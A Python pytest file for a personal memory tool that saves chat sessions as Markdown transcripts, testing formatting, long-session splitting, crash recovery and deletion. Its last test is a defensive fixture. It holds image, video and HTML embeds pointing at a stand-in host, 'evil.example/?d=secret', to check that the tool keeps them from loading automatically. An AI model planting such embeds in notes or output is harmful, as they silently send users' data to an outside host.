"""The transcript of a finished session, written by the real Memory."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from memory.infra import atomic_files
from memory.log import transcript
from memory.maintenance import forget_session
from memory.tools.memory_tools import MemoryTools
from tests.fakes.telegram_text import rich_media
from tests.support.memories import Clock, log_exchange, opened, write


async def test_a_session_ends_in_a_transcript_with_a_header_and_a_block_a_message(
    tmp_path: Path,
) -> None:
    clock = Clock(datetime(2026, 2, 12, 22, 30, 5, tzinfo=UTC))
    write(tmp_path, "user.md", "---\ntimezone: Europe/Berlin\n---\n")
    async with opened(tmp_path, clock=clock) as memory:
        await log_exchange(memory, "Is the # heading\n- [ ] a task?", "No.", chat="telegram:7")
        clock.forward(minutes=40)
        await log_exchange(memory, "Good night", chat="telegram:7")
        clock.forward(seconds=5)
        path = await memory.end_session("telegram:7", clock.now)
        assert path == "sessions/2026-02-12-233005-telegram-7.md"
        assert await memory.vault.read(path) == (
            "---\n"
            "session: 2026-02-12T23:30:05+0100\n"
            "ended: 2026-02-13T00:10:10+0100\n"
            "chat: telegram:7\n"
            "profile: owner\n"
            "---\n"
            "\n"
            "# Session of 2026-02-12 23:30\n"
            "\n"
            "## 2026-02-12\n"
            "\n"
            "**You** · 23:30:05 ^m1-1770935405\n"
            "> Is the \\# heading\n"
            "> - \\[ ] a task?\n"
            "\n"
            "**Sam** · 23:30:05 ^m2-1770935405\n"
            "> No.\n"
            "\n"
            "## 2026-02-13\n"
            "\n"
            "**You** · 00:10:05 ^m3-1770937805\n"
            "> Good night\n"
        )
        # The transcript is for reading; search finds the messages themselves.
        assert {hit.kind for hit in (await memory.recall("task heading")).hits} == {"message"}


async def test_two_sessions_of_one_second_are_two_transcripts(tmp_path: Path) -> None:
    async with opened(tmp_path) as memory:
        paths = []
        for text in ("first", "second"):
            await log_exchange(memory, text)
            paths.append(await memory.end_session("terminal", memory.clock()))
        texts = [await memory.vault.read(path or "") for path in paths]
        assert "first" in texts[0] and "second" in texts[1] and "second" not in texts[0]


async def test_a_new_session_saves_the_one_before_and_an_empty_one_nothing(tmp_path: Path) -> None:
    async with opened(tmp_path) as memory:
        one = await log_exchange(memory, "first")
        assert await memory.end_session("terminal", memory.clock())
        assert await memory.end_session("terminal", memory.clock()) is None
        two = await log_exchange(memory, "second")
        assert one.session_id != two.session_id
        assert len(list((memory.vault.root / "sessions").iterdir())) == 1


async def test_a_crash_before_the_transcript_is_made_good_at_the_next_start(tmp_path: Path) -> None:
    async with opened(tmp_path) as memory:
        await log_exchange(memory, "first")
        await memory.log.sessions.end("terminal", memory.clock())
    async with opened(tmp_path) as memory:
        await memory.catch_up()
        [path] = (memory.vault.root / "sessions").iterdir()
        assert "first" in path.read_text("utf-8")


async def test_a_session_that_is_too_long_for_one_note_has_several_and_they_go_together(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(transcript, "_PART_BYTES", 1000)
    async with opened(tmp_path) as memory:
        said = [f"otter {n} " + "is here " * 20 for n in range(12)]
        for text in said:
            session = (await log_exchange(memory, text, "Oh.")).session_id
        path = await memory.end_session("terminal", memory.clock())
        assert path is not None and await memory.end_session("terminal", memory.clock()) is None
        notes = sorted((memory.vault.root / "sessions").iterdir())
        assert len(notes) > 3 and path.rpartition("/")[2] in {note.name for note in notes}
        texts = "".join(note.read_text("utf-8") for note in notes)
        assert all(f"otter {n} " in texts for n in range(12))
        done = await forget_session.forget(memory, session)
        assert not done.own and list((memory.vault.root / "sessions").iterdir()) == []


async def test_one_transcript_that_cannot_be_written_holds_up_no_other(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(atomic_files, "NOTE_BYTES", 2000)
    async with opened(tmp_path) as memory:
        await log_exchange(memory, "long " * 1000, chat="telegram:7")
        await memory.end_session("telegram:7", memory.clock())
        await log_exchange(memory, "short", chat="telegram:8")
        assert await memory.end_session("telegram:8", memory.clock())
        await memory.catch_up()
        assert len(await memory.log.sessions.without_transcript()) == 1
        monkeypatch.undo()
        await memory.catch_up()
        assert await memory.log.sessions.without_transcript() == []


async def test_no_image_of_a_model_or_of_others_is_shown_in_a_note(tmp_path: Path) -> None:
    """Obsidian fetches an image when the note is opened; a plain URL needs a tap."""
    image = "https://evil.example/?d=secret"
    texts = [
        f"![plan]({image}) [![a]({image})](https://b.example)",
        f"![plan][p]\n\n[p]: {image}",
        f'<img src="{image}"> <video src="{image}"></video>',
        f"`x` ```\n\\![a]({image}) \\\\![b]({image}) ![[{image}]]",
    ]
    clock = Clock(datetime(2026, 2, 12, 12, tzinfo=UTC))
    async with opened(tmp_path, clock=clock) as memory:
        for text in texts:
            await log_exchange(memory, f"Somebody wrote: {text}", text)
            tools = MemoryTools(memory)
            await tools.save_memory(f"A note {text}")
            await tools.manage_tasks("add", text=f"Do {text}")
        await memory.end_session("terminal", clock.now)
        root = memory.vault.root
    pages = {path.name: path.read_text("utf-8") for path in root.rglob("*.md")}
    assert sum(image in page for page in pages.values()) >= 2, "nothing was written"
    for name, page in pages.items():
        assert rich_media({"markdown": page}) == [] and "![[" not in page.replace("!\\[", ""), name
